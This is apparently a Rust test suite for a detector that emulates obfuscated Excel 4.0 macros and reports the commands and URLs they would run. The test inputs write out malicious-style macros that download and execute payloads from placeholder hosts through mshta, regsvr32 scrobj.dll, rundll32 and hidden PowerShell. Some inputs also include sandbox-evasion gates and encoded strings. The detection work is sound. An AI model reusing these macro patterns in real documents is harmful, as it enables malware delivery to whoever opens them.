//! Shapes of obfuscation as they were met in mail, made harmless.

use super::*;
use expect_test::expect;

#[test]
fn plain_download_and_start() {
    check(
        r#"
        [Macro1 hidden]
        A1: =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://files.example/a.ocx","..\a.ocx",0,0)
        A2: =EXEC("C:\Windows\SysWow64\regsvr32.exe -s ..\a.ocx")
        A3: =RETURN()
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Network Macro1:1 URLDownloadToFileA(0 hxxp://files[.]example/a.ocx ..\a.ocx 0 0) [Auto_Open]
            Process Macro1:2 EXEC(C:\Windows\SysWow64\regsvr32.exe -s ..\a.ocx) [Auto_Open]
            command Macro1!R2C1 SystemBinary C:\Windows\SysWow64\regsvr32.exe -s ..\a.ocx
            url hxxp://files[.]example/a.ocx at files[.]example
        "#]],
    );
}

#[test]
fn characters_put_together_from_another_sheet() {
    check(
        r#"
        [Macro1 hidden]
        A1: =EXEC(Sheet2!A1&Sheet2!A2&CHAR(104)&CHAR(116)&CHAR(97)&" "&Sheet2!B1&"//0xC0000207/x.html")
        A2: =HALT()
        [Sheet2 plain hidden]
        A1: m
        A2: s
        B1: http:
        name auto_open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.auto_open:1
            Process Macro1:1 EXEC(mshta hxxp://0xC0000207/x.html) [auto_open]
            command Macro1!R1C1 SystemBinary mshta hxxp://0xC0000207/x.html
              hxxp://0xC0000207/x.html
        "#]],
    );
}

#[test]
fn formulas_written_by_formulas() {
    check(
        r#"
        [Macro1]
        A1: =FORMULA("=EX"&"EC(""cmd /c start https://one.example/x"")",A3)
        A2: =FORMULA.FILL("=HALT()",A4:A5)
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:3 EXEC(cmd /c start hxxps://one[.]example/x) [Auto_Open]
            command Macro1!R3C1 Cmd cmd /c start hxxps://one[.]example/x
              hxxps://one[.]example/x
        "#]],
    );
}

#[test]
fn jumps_from_cell_to_cell() {
    check(
        r#"
        [Macro1]
        A1: =GOTO(C5)
        C5: =SET.NAME("a","powershell -w hidden ")
        C6: =GOTO(Other!B2)
        D1: =EXEC(a&b)
        D2: =HALT()
        [Other]
        B2: =SET.NAME("b","-c iwr http://two.example/p.exe -OutFile p.exe")
        B3: =GOTO(Macro1!D1)
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:1 EXEC(powershell -w hidden -c iwr hxxp://two[.]example/p.exe -OutFile p.exe) [Auto_Open]
            command Macro1!R1C4 PowerShell powershell -w hidden -c iwr hxxp://two[.]example/p.exe -OutFile p.exe
              hxxp://two[.]example/p.exe
        "#]],
    );
}

#[test]
fn a_command_built_cell_by_cell() {
    check(
        r#"
        [Macro1]
        A1: =SET.VALUE(B1,"rundll32 ")
        A2: =SET.VALUE(B1,B1&"..\x.dll")
        A3: =SET.VALUE(B1,B1&",D"&"llRegisterServer")
        A4: =EXEC(B1)
        A5: =RETURN()
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:4 EXEC(rundll32 ..\x.dll,DllRegisterServer) [Auto_Open]
            command Macro1!R4C1 SystemBinary rundll32 ..\x.dll,DllRegisterServer
        "#]],
    );
}

#[test]
fn a_loop_that_decodes_numbers() {
    check(
        r#"
        [Macro1]
        A1: =SET.NAME("i",1)
        A2: =SET.NAME("line","")
        A3: =WHILE(i<=12)
        A4: =SET.NAME("line",line&CHAR(INDEX(C1:C12,i)-3))
        A5: =SET.NAME("i",i+1)
        A6: =NEXT()
        A7: =EXEC(line)
        A8: =HALT()
        C1: 112
        C2: 118
        C3: 107
        C4: 119
        C5: 100
        C6: 35
        C7: 123
        C8: 49
        C9: 107
        C10: 119
        C11: 112
        C12: 111
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:7 EXEC(mshta x.html) [Auto_Open]
            command Macro1!R7C1 SystemBinary mshta x.html
        "#]],
    );
}

#[test]
fn counted_loops_and_loops_over_cells() {
    check(
        r#"
        [Macro1]
        A1: =SET.NAME("s","")
        A2: =FOR("i",3,1,-1)
        A3: =SET.NAME("s",s&INDEX(C1:C3,i))
        A4: =NEXT()
        A5: =FOR.CELL("c",D1:D3,TRUE)
        A6: =SET.NAME("s",s&c)
        A7: =NEXT()
        A8: =EXEC(s)
        A9: =HALT()
        C1: wmic
        C2: '
        C3: cmd /c
        D1: ' process
        D3: ' list
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:8 EXEC(cmd /cwmic process list) [Auto_Open]
            command Macro1!R8C1 Cmd cmd /cwmic process list
        "#]],
    );
}

#[test]
fn gates_that_look_for_a_sandbox() {
    check(
        r#"
        [Macro1]
        A1: =IF(GET.WORKSPACE(19),,CLOSE(TRUE))
        A2: =IF(GET.WORKSPACE(42),,CLOSE(TRUE))
        A3: =IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)
        A4: =IF(GET.WINDOW(20),GOTO(A6),)
        A5: =CLOSE(FALSE)
        A6: =IF(ISNUMBER(SEARCH("Windows",GET.WORKSPACE(1))),EXEC("mshta http://three.example/a"),HALT())
        A7: =HALT()
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:6 EXEC(mshta hxxp://three[.]example/a) [Auto_Open]
            command Macro1!R6C1 SystemBinary mshta hxxp://three[.]example/a
              hxxp://three[.]example/a
        "#]],
    );
}

#[test]
fn both_ways_where_only_the_machine_knows() {
    check(
        r#"
        [Macro1]
        A1: =IF(DAY(NOW())=7)
        A2: =EXEC("mshta http://seven.example/a")
        A3: =ELSE()
        A4: =EXEC("mshta http://other.example/a")
        A5: =END.IF()
        A6: =IF(GET.WORKSPACE(26)="x",GOTO(B1),GOTO(C1))
        B1: =EXEC("wscript one.vbs")
        B2: =HALT()
        C1: =EXEC("wscript two.vbs")
        C2: =HALT()
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:2 EXEC(mshta hxxp://seven[.]example/a) [Auto_Open]
            Process Macro1:1 EXEC(wscript one.vbs) [Auto_Open]
            Process Macro1:4 EXEC(mshta hxxp://other[.]example/a) [Auto_Open]
            Process Macro1:1 EXEC(wscript two.vbs) [Auto_Open]
            command Macro1!R2C1 SystemBinary mshta hxxp://seven[.]example/a
              hxxp://seven[.]example/a
            command Macro1!R1C2 ScriptHost wscript one.vbs
            command Macro1!R4C1 SystemBinary mshta hxxp://other[.]example/a
              hxxp://other[.]example/a
            command Macro1!R1C3 ScriptHost wscript two.vbs
        "#]],
    );
}

#[test]
fn next_address_when_the_first_failed() {
    check(
        r#"
        [Macro1]
        A1: =REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","fetch",,1,9)
        A2: =fetch(0,"https://one.example/1",B1,0,0)
        A3: =IF(A2<0,fetch(0,"https://two.example/2",B1,0,0))
        A4: =IF(A3<0,fetch(0,"https://three.example/3",B1,0,0),)
        A5: =IF(A4<0,CLOSE(0),)
        A6: =CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","rundll32.exe",B1&",Start",0,0)
        A7: =RETURN()
        B1: C:\Users\Public\x.dat
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Library Macro1:1 REGISTER(urlmon URLDownloadToFileA JJCCJJ fetch 1 9) [Auto_Open]
            Network Macro1:2 URLDownloadToFileA(0 hxxps://one[.]example/1 C:\Users\Public\x.dat 0 0) [Auto_Open]
            Network Macro1:3 URLDownloadToFileA(0 hxxps://two[.]example/2 C:\Users\Public\x.dat 0 0) [Auto_Open]
            Network Macro1:4 URLDownloadToFileA(0 hxxps://three[.]example/3 C:\Users\Public\x.dat 0 0) [Auto_Open]
            Process Macro1:6 ShellExecuteA(0 open rundll32.exe C:\Users\Public\x.dat,Start 0 0) [Auto_Open]
            command Macro1!R6C1 SystemBinary rundll32.exe C:\Users\Public\x.dat,Start
            url hxxps://one[.]example/1 at one[.]example
            url hxxps://two[.]example/2 at two[.]example
            url hxxps://three[.]example/3 at three[.]example
        "#]],
    );
}

#[test]
fn a_call_through_the_number_that_register_gives() {
    check(
        r#"
        [Macro1]
        A1: =REGISTER("Kernel32","WinExec","JCJ",,,1,0)
        A2: =CALL(A1,"cmd /c echo hello",0)
        A3: =CALL("Kernel32","Create"&"DirectoryA","JCJ","C:\demo",0)
        A4: =HALT()
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Library Macro1:1 REGISTER(Kernel32 WinExec JCJ 1 0) [Auto_Open]
            Process Macro1:2 WinExec(cmd /c echo hello 0) [Auto_Open]
            Library Macro1:3 CreateDirectoryA(C:\demo 0) [Auto_Open]
            command Macro1!R2C1 Cmd cmd /c echo hello
        "#]],
    );
}

#[test]
fn a_script_written_line_by_line() {
    check(
        r#"
        [Macro1]
        A1: =FOPEN("C:\ProgramData\a.vbs",3)
        A2: =FWRITELN(A1,"Set x = CreateObject(""WScript.Shell"")")
        A3: =FWRITELN(A1,"x.Run ""powershell -c iwr http://script.example/q"", 0")
        A4: =FCLOSE(A1)
        A5: =EXEC("explorer.exe C:\ProgramData\a.vbs")
        A6: =HALT()
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Write Macro1:1 FOPEN(C:\ProgramData\a.vbs) [Auto_Open]
            Process Macro1:5 EXEC(explorer.exe C:\ProgramData\a.vbs) [Auto_Open]
            command Macro1!R5C1 Other explorer.exe C:\ProgramData\a.vbs
            command Macro1!R1C1 PowerShell powershell -c iwr hxxp://script[.]example/q
              hxxp://script[.]example/q
        "#]],
    );
}

#[test]
fn macros_that_start_later_and_by_text() {
    check(
        r#"
        [Macro1]
        A1: =ON.TIME(NOW()+"00:00:05","later")
        A2: =RUN("Macro1!R1C4")
        A3: =RUN(sub)
        A4: =Macro1!F1()
        A5: =HALT()
        B1: =EXEC("cscript later.vbs")
        B2: =RETURN()
        D1: =EXEC("cscript text.vbs")
        D2: =RETURN()
        E1: =EXEC("cscript name.vbs")
        E2: =RETURN()
        F1: =EXEC("cscript place.vbs")
        F2: =RETURN()
        name later =Macro1!$B$1
        name sub =Macro1!$E$1
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Other Macro1:1 ON.TIME(later) [Auto_Open]
            Process Macro1:1 EXEC(cscript text.vbs) [Auto_Open]
            Process Macro1:1 EXEC(cscript name.vbs) [Auto_Open]
            Process Macro1:1 EXEC(cscript place.vbs) [Auto_Open]
            Process Macro1:1 EXEC(cscript later.vbs) [Auto_Open]
            command Macro1!R1C4 ScriptHost cscript text.vbs
            command Macro1!R1C5 ScriptHost cscript name.vbs
            command Macro1!R1C6 ScriptHost cscript place.vbs
            command Macro1!R1C2 ScriptHost cscript later.vbs
        "#]],
    );
}

#[test]
fn r1c1_everywhere() {
    check(
        r#"
        [Macro1]
        A1: =FORMULA("=SET.NAME(""p"",R1C[2]&R2C3)",R2C1)
        A3: =FORMULA("=EXEC(p)","R[1]C")
        A5: =HALT()
        C1: regsvr32 /s /n /u /i:
        C2: http://four.example/s.sct scrobj.dll
        name Auto_Open =Macro1!R1C1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:4 EXEC(regsvr32 /s /n /u /i:hxxp://four[.]example/s.sct scrobj.dll) [Auto_Open]
            command Macro1!R4C1 SystemBinary regsvr32 /s /n /u /i:hxxp://four[.]example/s.sct scrobj.dll
              hxxp://four[.]example/s.sct
        "#]],
    );
}

#[test]
fn several_names_in_odd_spelling() {
    check(
        r#"
        [Macro1]
        A1: =ALERT("Enable content")
        A2: =WORKBOOK.HIDE("Macro1",TRUE)
        A3: =RETURN()
        B1: =EXEC("cmd /c calc")
        B2: =RETURN()
        name AUTO_OPEN_x7 =Macro1!$A$1
        name Auto_Close =Macro1!$B$1
        name _xlnm.Auto_Open =Macro1!$A$2
        "#,
        expect![[r#"
            entry Open Macro1.AUTO_OPEN_x7:1
            entry Open Macro1._xlnm.Auto_Open:2
            entry Close Macro1.Auto_Close:1
            Other Macro1:1 ALERT(Enable content) [AUTO_OPEN_x7]
            Other Macro1:2 WORKBOOK.HIDE(Macro1 TRUE) [AUTO_OPEN_x7,_xlnm.Auto_Open]
            Process Macro1:1 EXEC(cmd /c calc) [Auto_Close]
            command Macro1!R1C2 Cmd cmd /c calc
        "#]],
    );
}

#[test]
fn macros_nothing_starts() {
    check(
        r#"
        [Macro1]
        A1: =EXEC("cmd /c echo by hand")
        A2: =RETURN()
        B1: powershell -c iwr http://constant.example/x
        "#,
        expect![[r#"
            Process Macro1:1 EXEC(cmd /c echo by hand) []
            command Macro1!R1C1 Cmd cmd /c echo by hand
            command Macro1!R1C2 PowerShell powershell -c iwr hxxp://constant[.]example/x
              hxxp://constant[.]example/x
        "#]],
    );
}

#[test]
fn values_stored_with_formulas_that_did_not_run() {
    check(
        r#"
        [Macro1]
        A1: =EXEC(B1&Sheet1!A1)
        A2: =HALT()
        B1: =CONCATENATE("ms","hta ")
        [Sheet1 plain]
        A1: =A2&"/go"
        A2: ="http://"&A3
        A3: five.example
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:1 EXEC(mshta hxxp://five[.]example/go) [Auto_Open]
            command Macro1!R1C1 SystemBinary mshta hxxp://five[.]example/go
              hxxp://five[.]example/go
        "#]],
    );
}

#[test]
fn the_way_to_a_call() {
    let lines = r#"
        [Macro1]
        A1: =GOTO(B3)
        B3: =Two!A1()
        B4: =HALT()
        [Two]
        A1: =EXEC("cmd /c echo")
        A2: =RETURN()
        name Auto_Open =Macro1!$A$1
    "#;
    let survey = survey(&book(lines), &Limits::desk()).value;
    let path: Vec<String> = survey.calls[0]
        .path
        .iter()
        .map(|step| format!("{}.{}:{}", step.module, step.procedure, step.line))
        .collect();
    assert_eq!(path, ["Macro1.Auto_Open:1", "Macro1.Macro1!R3C2:3", "Two.Two!R1C1:1"]);
}

#[test]
fn functions_of_the_macro_with_arguments() {
    check(
        r#"
        [Macro1]
        A1: =EXEC(decode("dne{0d{fbmd",-1)&plain("!"))
        A2: =HALT()
        C1: =ARGUMENT("text")
        C2: =ARGUMENT("by",1,D9)
        C3: =SET.NAME("out","")
        C4: =FOR("i",1,LEN(text))
        C5: =SET.NAME("out",out&CHAR(CODE(MID(text,i,1))+D9))
        C6: =NEXT()
        C7: =RETURN(SUBSTITUTE(out,"z"," "))
        E1: =ARGUMENT("one")
        E2: =RETURN(one&one)
        name decode =Macro1!$C$1
        name plain =Macro1!$E$1
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:1 EXEC(cmd /c ealc!!) [Auto_Open]
            command Macro1!R1C1 Cmd cmd /c ealc!!
        "#]],
    );
}

#[test]
fn loops_inside_loops_that_end_and_begin_anew() {
    check(
        r#"
        [Macro1]
        A1: =SET.NAME("s","cmd /c ")
        A2: =FOR("i",1,3)
        A3: =SET.NAME("j",0)
        A4: =WHILE(j<2)
        A5: =SET.NAME("j",j+1)
        A6: =IF(j=2,BREAK(),SET.NAME("s",s&i&j&" "))
        A7: =NEXT()
        A8: =NEXT()
        A9: =EXEC(s)
        A10: =HALT()
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:9 EXEC(cmd /c 11 21 31 ) [Auto_Open]
            command Macro1!R9C1 Cmd cmd /c 11 21 31 
        "#]],
    );
}

#[test]
fn a_loop_that_is_left_by_a_jump_and_gone_on_with() {
    check(
        r#"
        [Macro1]
        A1: =SET.NAME("s","cmd /c ")
        A2: =FOR("i",1,3)
        A3: =GOTO(B1)
        A4: =NEXT()
        A5: =EXEC(s)
        A6: =HALT()
        B1: =SET.NAME("s",s&i)
        B2: =GOTO(A4)
        name Auto_Open =Macro1!$A$1
        "#,
        expect![[r#"
            entry Open Macro1.Auto_Open:1
            Process Macro1:5 EXEC(cmd /c 123) [Auto_Open]
            command Macro1!R5C1 Cmd cmd /c 123
        "#]],
    );
}

#[test]
fn many_gates_before_the_call() {
    let mut lines = String::from("[Macro1]\n");
    for row in 1..=40 {
        writeln!(lines, "A{row}: =IF(GET.WORKSPACE({row})>{row},CLOSE(FALSE),)").unwrap();
    }
    lines.push_str("A41: =EXEC(\"cmd /c echo behind\")\nA42: =HALT()\nname Auto_Open =Macro1!$A$1");
    check(
        &lines,
        expect![[r#"
        entry Open Macro1.Auto_Open:1
        Process Macro1:41 EXEC(cmd /c echo behind) [Auto_Open]
        command Macro1!R41C1 Cmd cmd /c echo behind
    "#]],
    );
}

#[test]
fn what_was_not_followed_is_told() {
    for (line, expected) in [
        ("=GOTO(INDIRECT(GET.CELL(6,B9)&\"x!\"))", "Macro1!R1C1: where the macro goes on could not be told"),
        ("=EXEC(MyAddIn(1))", "Macro1!R1C1: what MYADDIN does is not known"),
        ("=EXEC(1", "Macro1: a formula of the macro could not be read"),
    ] {
        let parsed = survey(
            &book(&format!("[Macro1]\nA1: {line}\nA2: =HALT()\nname Auto_Open =Macro1!$A$1")),
            &Limits::desk(),
        );
        let told: Vec<String> =
            parsed.problems.iter().map(|problem| format!("{}: {}", problem.place, problem.detail)).collect();
        assert_eq!(told, [expected], "{line}");
    }
}

#[test]
fn more_ways_than_are_gone_is_told() {
    let mut lines = String::from("[Macro1]\n");
    for row in 1..=100 {
        writeln!(lines, "A{row}: =IF(GET.WORKSPACE({row})>{row},CLOSE(FALSE),)").unwrap();
    }
    lines.push_str("A101: =EXEC(\"cmd /c echo behind\")\nA102: =HALT()\nname Auto_Open =Macro1!$A$1");
    let parsed = survey(&book(&lines), &Limits::desk());
    let details: Vec<&str> = parsed.problems.iter().map(|problem| problem.detail.as_str()).collect();
    assert_eq!(details, ["not every way behind the conditions nobody knows was gone"]);
}
